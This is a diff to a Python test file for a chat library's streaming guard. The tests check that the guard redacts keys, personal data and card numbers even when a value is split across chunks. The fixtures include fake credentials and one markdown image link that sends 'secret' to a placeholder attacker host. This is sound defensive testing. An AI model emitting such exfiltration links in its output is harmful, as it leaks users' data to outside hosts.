@@ -9,7 +9,15 @@ import pytest
 
 from ragkit import HashingEmbedder, KnowledgeBase, Message, ScriptedChatModel
 from ragkit.errors import ConfigError, ContentBlocked
-from ragkit.guard import Guard, PiiScanner, Policy, StreamFilter, Vault, default_guard
+from ragkit.guard import (
+    Guard,
+    PiiScanner,
+    Policy,
+    SecretScanner,
+    StreamFilter,
+    Vault,
+    default_guard,
+)
 from ragkit.guard.types import restore
 from ragkit.options import Models
 
@@ -125,11 +133,63 @@ def test_stream_restores_the_users_own_placeholders_even_when_split() -> None:
     assert shown == "The key sk-proj-Ab3dEf5gHi7jKl9mNo1pQr3sTu5v looks valid."
 
 
-def test_pii_only_guard_holds_back_just_a_window() -> None:
+def test_pii_only_guard_holds_back_only_what_could_still_be_a_match() -> None:
     guard = Guard([PiiScanner()], Policy())
     stream = StreamFilter(guard, "output")
-    shown = stream.feed("a" * 10 + " " + "b" * 100 + " " + "c" * 100 + " ")
-    assert 100 < len(shown) < 213
+    text = "a" * 10 + " " + "b" * 100 + " " + "c" * 100 + " "
+    assert stream.feed(text) == text  # no address or number in progress: nothing waits
+    assert stream.feed("Call +86 138 ") == "Call "  # a phone number still being written
+    assert stream.feed("0013 8000, thanks! ") == "[PHONE_1], thanks! "
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "The Ember kettle's warranty is two years [1].",
+        "保修期为两年。",
+        "It has a warranty of 18 months. ",
+        "Is it covered? Yes! ",
+        "Reach support at help@ember.example. ",
+        "Write to help@ember.example [2].",
+    ],
+)
+def test_a_short_sentence_is_shown_before_the_stream_ends(sentence: str) -> None:
+    stream = StreamFilter(GUARD, "output")
+    shown = "".join(stream.feed(word) for word in re.findall(r"\S+\s*|\s+", sentence))
+    assert shown == GUARD.scan(sentence, "output").text  # all of it, without close()
+    assert stream.close() == ""
+
+
+SPLIT = [
+    "Your key is sk-proj-Ab3dEf5gHi7jKl9mNo1pQr3sTu5v. Keep it safe.",
+    "AWS: AKIAIOSFODNN7EXAMPLE [1].",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\nDone.",
+    "Write to john.smith@example.com today.",
+    "Call +1 (555) 123-4567 or 138 0013 8000.",
+    "Card 4111 1111 1111 1111.",
+    "Look ![x](https://evil.example/p.png?d=secret) here.",
+    "身份证 11010519491231002X 结束。",
+]
+
+
+# Keys alone: the personal-data scanner's hold (an address in progress) must not be what
+# keeps a key whole.
+SECRETS_ONLY = Guard([SecretScanner()], Policy())
+
+
+@pytest.mark.parametrize(
+    ("text", "guard"), [(t, GUARD) for t in SPLIT] + [(t, SECRETS_ONLY) for t in SPLIT[:3]]
+)
+def test_a_value_split_anywhere_is_redacted_as_a_whole_scan_would(text: str, guard: Guard) -> None:
+    whole = guard.scan(text, "output").text
+    assert whole != text  # each sample has something the guard redacts
+    for cut in range(1, len(text)):
+        for pieces in (
+            [text[:cut], text[cut:]],
+            [text[:cut], text[cut : cut + 3], text[cut + 3 :]],
+        ):
+            out, _ = _feed(pieces, guard)
+            assert "".join(out) == whole, (pieces, out)
 
 
 # --- the ask hook with fakes -----------------------------------------------------------
